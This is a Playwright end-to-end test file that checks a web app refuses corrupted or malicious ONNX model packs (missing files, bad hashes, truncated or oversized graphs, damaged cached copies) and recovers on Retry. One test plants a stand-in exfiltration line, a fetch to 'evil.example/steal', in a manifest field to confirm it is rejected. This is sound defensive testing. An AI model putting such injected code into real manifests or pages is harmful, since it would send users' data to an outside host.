/**
 * Bad packs, built in the test from public/models/test-tiny by intercepting the requests
 * (nothing hand-made is committed): each is refused with a message that names the file and
 * the problem, Retry with the good pack recovers, and a job runs. WASM: the GPU is not the point.
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { Page, Request, Route } from '@playwright/test';
import { expect, test } from './fixtures';
import { clearPackStore, PACK_STORE, storedSize, TEST_PACK, testPackGraphs, waitForPack } from './helpers';
import { expectIntact, expectNextJobRuns, snapshot } from './reliability-helpers';

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const MANIFEST = `**/models/${TEST_PACK}/pack.json`;
const victim = testPackGraphs().find((g) => g.file === 'unet.onnx') ?? testPackGraphs()[0]!;

type Manifest = { graphs: Record<string, { file: string; bytes: number; sha256: string }> } & Record<string, unknown>;

async function editManifest(page: Page, edit: (m: Manifest) => void): Promise<void> {
  await page.route(MANIFEST, async (route) => {
    const response = await route.fetch();
    const manifest = (await response.json()) as Manifest;
    edit(manifest);
    await route.fulfill({ response, body: JSON.stringify(manifest) });
  });
}

function graphOf(m: Manifest, file: string) {
  const graph = Object.values(m.graphs).find((g) => g.file === file);
  if (!graph) throw new Error(`no ${file} in the manifest`);
  return graph;
}

async function serveGraph(page: Page, handler: (route: Route) => Promise<void>): Promise<void> {
  await page.route(`**/models/${TEST_PACK}/${victim.file}`, handler);
}

/** Opens the page with the bad pack, checks the refusal, then Retry with the good pack. */
async function expectRefusedThenRecover(page: Page, message: RegExp, wrong?: RegExp): Promise<void> {
  await page.goto(`/?ep=wasm&pack=${TEST_PACK}`);
  await expect(page.getByTestId('pack-status')).toHaveAttribute('data-status', 'error', { timeout: 120_000 });
  const banner = page.getByTestId('status-banner');
  await expect(banner).toHaveAttribute('data-kind', 'PackInvalid');
  await expect(banner).toContainText(message);
  if (wrong) await expect(banner).not.toContainText(wrong);
  const before = await snapshot(page);

  await page.unrouteAll({ behavior: 'ignoreErrors' });
  await banner.getByRole('button', { name: 'Retry' }).click();
  await waitForPack(page);
  await expect(banner).toBeHidden();
  await expectIntact(page, before, { params: false });
  await expectNextJobRuns(page);
}

// One page for the file (`filePage`, e2e/fixtures.ts), each bad-pack test starting from a fresh
// navigation with its own routes and an emptied pack cache: a new context per test costs more
// than the test itself on a 2-core machine.

/** Counts the graph (.onnx) requests from now until `stop()`. */
function countGraphRequestsFrom(target: Page): { names: string[]; stop: () => void } {
  const names: string[] = [];
  const listener = (r: Request) => {
    const path = new URL(r.url()).pathname;
    if (path.endsWith('.onnx')) names.push(path.split('/').pop()!);
  };
  target.on('request', listener);
  return { names, stop: () => target.off('request', listener) };
}

test.describe('bad packs', () => {
  test.beforeEach(async ({ filePage: page }) => {
    // A clean cache: a cached good copy (from the test before) must not hide the bad file.
    await page.unrouteAll({ behavior: 'ignoreErrors' });
    await page.goto(`/models/${TEST_PACK}/pack.json`); // any page of the origin, no worker running
    await clearPackStore(page);
  });

  test('a missing file', async ({ filePage: page }) => {
    await serveGraph(page, (route) => route.fulfill({ status: 404, body: 'not found' }));
    await expectRefusedThenRecover(page, new RegExp(`${victim.file}.*HTTP 404`));
  });

  test('a wrong hash in the manifest', async ({ filePage: page }) => {
    await editManifest(page, (m) => (graphOf(m, victim.file).sha256 = '0'.repeat(64)));
    await expectRefusedThenRecover(page, new RegExp(`${victim.file}.*sha256`));
  });

  test('a manifest with wrong shapes and unknown fields', async ({ filePage: page }) => {
    await editManifest(page, (m) => {
      (m.latent as { shape: number[] }).shape = [12, 16];
      m.onLoad = 'fetch("https://evil.example/steal")';
    });
    await expectRefusedThenRecover(page, /pack\.json.*does not follow the pack contract/);
  });

  test('a truncated ONNX file whose manifest matches it', async ({ filePage: page }) => {
    // The manifest describes the cut file (size, hash), so only ONNX parsing can tell.
    const half = readFileSync(`public/models/${TEST_PACK}/${victim.file}`).subarray(0, Math.floor(victim.bytes / 2));
    await serveGraph(page, async (route) => route.fulfill({ status: 200, body: half }));
    await editManifest(page, (m) =>
      Object.assign(graphOf(m, victim.file), { bytes: half.length, sha256: sha256(half) }),
    );
    await expectRefusedThenRecover(page, new RegExp(victim.file));
  });

  test('an HTML page served where a model was expected', async ({ filePage: page }) => {
    await serveGraph(page, (route) =>
      route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><html><body>App</body></html>' }),
    );
    // Called what it is, not "missing" (the server did answer, with a web page).
    await expectRefusedThenRecover(page, new RegExp(`${victim.file}.*HTML page`, 'i'), /missing/i);
  });

  test('a pack far larger than the device allows is refused before any download', async ({ filePage: page }) => {
    const graphRequests = countGraphRequestsFrom(page);
    await editManifest(page, (m) => (graphOf(m, victim.file).bytes = 1.9 * 1024 ** 3));
    await page.goto(`/?ep=wasm&pack=${TEST_PACK}`);
    await expect(page.getByTestId('pack-status')).toHaveAttribute('data-status', 'error', { timeout: 120_000 });
    await expect(page.getByTestId('status-banner')).toContainText(/GB|MB|memory|limit/i);
    graphRequests.stop();
    expect(graphRequests.names, 'no graph downloaded').toEqual([]);
    await page.unrouteAll({ behavior: 'ignoreErrors' });
    await page.getByTestId('status-banner').getByRole('button', { name: 'Retry' }).click();
    await waitForPack(page);
    await expectNextJobRuns(page);
  });
});

test('a damaged stored file is detected by its hash and fetched again', async ({ filePage: page }) => {
  // The pack loaded and every graph cached: where the test before left the page (Retry loaded
  // the good pack into an emptied cache, then a job ran); run alone, it loads it here.
  const app = `/?ep=wasm&pack=${TEST_PACK}`;
  const done = page.locator('[data-testid="pack-status"][data-status="done"]');
  if (!page.url().endsWith(app) || (await done.count()) === 0) {
    await page.unrouteAll({ behavior: 'ignoreErrors' });
    await page.goto(app);
    await waitForPack(page);
  }
  // Damage the stored copy of one graph (OPFS, workers/packs/opfs-store.ts), as a bad disk or an old entry would.
  await page.evaluate(
    async ([dir, sha]) => {
      const folder = await (await navigator.storage.getDirectory()).getDirectoryHandle(dir!);
      const handle = await folder.getFileHandle(sha!);
      const bytes = new Uint8Array(await (await handle.getFile()).arrayBuffer());
      bytes[bytes.length >> 1]! ^= 0xff;
      const writable = await handle.createWritable();
      await writable.write(bytes);
      await writable.close();
    },
    [PACK_STORE, victim.sha256],
  );

  const refetched = countGraphRequestsFrom(page);
  await page.reload();
  await waitForPack(page);
  refetched.stop();
  expect(refetched.names).toEqual([victim.file]);
  const healed = await page.evaluate(
    async ([dir, sha]) => {
      const folder = await (await navigator.storage.getDirectory()).getDirectoryHandle(dir!);
      const file = await (await folder.getFileHandle(sha!)).getFile();
      const digest = await crypto.subtle.digest('SHA-256', await file.arrayBuffer());
      return [...new Uint8Array(digest)].map((b) => b.toString(16).padStart(2, '0')).join('');
    },
    [PACK_STORE, victim.sha256],
  );
  expect(healed).toBe(victim.sha256);
  expect(await storedSize(page, `${victim.sha256}.part`)).toBeNull();
  await expectNextJobRuns(page);
});
